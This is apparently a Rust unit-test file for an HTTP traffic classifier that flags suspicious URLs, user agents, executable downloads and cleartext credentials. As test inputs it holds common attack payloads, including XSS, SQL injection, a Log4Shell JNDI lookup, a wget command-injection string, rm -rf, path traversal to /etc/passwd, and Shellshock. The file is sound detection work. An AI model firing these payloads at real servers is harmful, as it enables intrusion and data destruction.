use super::*;

fn bits(statuses: &[FlowStatus]) -> StatusBits {
    statuses.iter().fold(0, |bits, status| bits | status.bit())
}

#[test]
fn ordinary_targets_are_ordinary() {
    for target in [
        "/",
        "/search?q=select+a+chair",
        "/search?q=drop+the+table",
        "/a/b.html?x=1&y=%20z",
        "/union/station",
        "/O%27Reilly/books",
        "/wiki/SQL_injection",
        "/images/photo%20(1).jpg",
        "/article;jsessionid=AB12",
        "/?redirect=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc",
        "/login?user=tom&next=%2Fhome",
        "/a/../b",
        "/scripts/jquery-3.6.0.min.js",
        "/p?q=rock+%26+roll+or+jazz",
        "/api/v1/items?filter=name%3D%22bob%22",
        "/systems(1)/overview",
        "/c++/reference",
    ] {
        assert_eq!(of_target(target.as_bytes()), 0, "{target}");
    }
}

#[test]
fn targets_of_attacks_have_their_bits() {
    use FlowStatus::{HttpSuspiciousUrl, PossibleExploit, UrlCommandInjection, UrlSqlInjection, UrlXss};
    let cases: &[(&str, &[FlowStatus])] = &[
        ("/?q=<script>alert(1)</script>", &[UrlXss]),
        ("/?q=%3CScript%3Ealert(1)%3C/script%3E", &[UrlXss]),
        ("/?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E", &[UrlXss]),
        ("/item?id=1%20UNION%20SELECT%20user,pass%20FROM%20users", &[UrlSqlInjection]),
        ("/item?id=1+union+all+select+1,2,3", &[UrlSqlInjection]),
        ("/login?u=admin'%20or%20'1'='1", &[UrlSqlInjection]),
        ("/?x=${jndi:ldap://192.0.2.1/a}", &[PossibleExploit]),
        ("/?cmd=;wget%20http://192.0.2.1/x", &[UrlCommandInjection]),
        ("/?f=php://input", &[]),
        ("/index.php?f=php%3A//input", &[UrlCommandInjection]),
        ("/shell?cd+/tmp;rm+-rf+*", &[UrlCommandInjection, HttpSuspiciousUrl]),
        ("/static/../../../../etc/passwd", &[HttpSuspiciousUrl]),
        ("/%2e%2e/%2e%2e/%2e%2e/boot.ini", &[HttpSuspiciousUrl]),
        ("/.git/config", &[HttpSuspiciousUrl]),
        ("/.env", &[HttpSuspiciousUrl]),
    ];
    for (target, statuses) in cases {
        assert_eq!(of_target(target.as_bytes()), bits(statuses), "{target}");
    }
}

#[test]
fn agents_are_told_apart() {
    use FlowStatus::{HttpCrawler, HttpSuspiciousUserAgent};
    for agent in [
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "curl/8.5.0",
        "Wget/1.21",
        "Debian APT-HTTP/1.3 (2.6.1)",
        "python-requests/2.31",
        "Abbott-Client/1.0",
        "Go-http-client/1.1",
    ] {
        assert_eq!(of_agent(agent.as_bytes()), 0, "{agent}");
    }
    for agent in ["", "x", "sqlmap/1.7", "Mozilla/5.0 zgrab/0.x", "Nikto", "<script>", "() { :; }; /bin/id"] {
        assert_eq!(of_agent(agent.as_bytes()), HttpSuspiciousUserAgent.bit(), "{agent}");
    }
    for agent in ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bingbot"] {
        assert_eq!(of_agent(agent.as_bytes()), HttpCrawler.bit(), "{agent}");
    }
}

#[test]
fn servers_grow_old() {
    for old in ["nginx/1.14.0 (Ubuntu)", "Apache/2.2.15 (CentOS)", "Microsoft-IIS/7.5", "Apache-Coyote/1.1"] {
        assert!(is_obsolete(old), "{old}");
    }
    for new in ["nginx", "nginx/1.27.1", "Apache/2.4.62", "Apache", "Microsoft-IIS/10.0", "cloudflare", ""] {
        assert!(!is_obsolete(new), "{new}");
    }
}

fn answer(content_type: &str, url: &str, body: &[u8]) -> StatusBits {
    let http =
        HttpInfo { content_type: content_type.into(), url: url.into(), status: 200, ..HttpInfo::default() };
    of_answer(&http, body)
}

#[test]
fn programs_are_known_by_type_name_and_bytes() {
    use FlowStatus::{BinaryDataTransfer, ExecutableTransfer, HttpSuspiciousContent};
    let mut windows = vec![0; 0x80];
    windows[..2].copy_from_slice(b"MZ");
    windows[0x3c] = 0x40;
    windows[0x40..0x44].copy_from_slice(b"PE\0\0");
    assert_eq!(answer("application/x-msdownload", "/a", b""), ExecutableTransfer.bit());
    assert_eq!(answer("application/octet-stream", "/setup.EXE?v=1", b""), ExecutableTransfer.bit());
    let both = bits(&[ExecutableTransfer, BinaryDataTransfer]);
    assert_eq!(answer("application/octet-stream", "/a", &windows), both);
    assert_eq!(answer("application/octet-stream", "/a", b"\x7fELF\x02\x01\x01"), both);
    assert_eq!(answer("image/png", "/logo.png", &windows), both | HttpSuspiciousContent.bit());
    assert_eq!(answer("text/html", "/missing.exe", b"<html>"), 0, "a page about a program");
    windows[0x40] = b'x';
    assert_eq!(answer("application/octet-stream", "/a", &windows), 0, "two letters are no program");
    assert_eq!(answer("text/plain", "/MZ", b"MZ is a magic"), 0);
}

#[test]
fn secrets_in_forms_and_exploits_in_headers_are_seen() {
    let post = HttpInfo { method: "POST".into(), ..HttpInfo::default() };
    let form = of_request(b"/login", &post, None, b"user=tom&Password=secret");
    assert_eq!(form, FlowStatus::ClearTextCredentials.bit());
    assert_eq!(of_request(b"/login", &post, None, b"user=tom&password=&x=1"), 0);
    assert_eq!(of_request(b"/login", &post, None, b"{\"a\":1}"), 0);
    let exploit = bits(&[FlowStatus::PossibleExploit, FlowStatus::HttpSuspiciousHeader]);
    assert_eq!(of_value(b"() { :;}; echo"), exploit);
    assert_eq!(of_value(b"a ${JNDI:ldap://x}"), exploit);
    assert_eq!(of_value(b"text/html (compatible; $5)"), 0);
    assert!(is_odd_name(b"Ho st") && is_odd_name(b"") && !is_odd_name(b"X-Forwarded-For"));
}
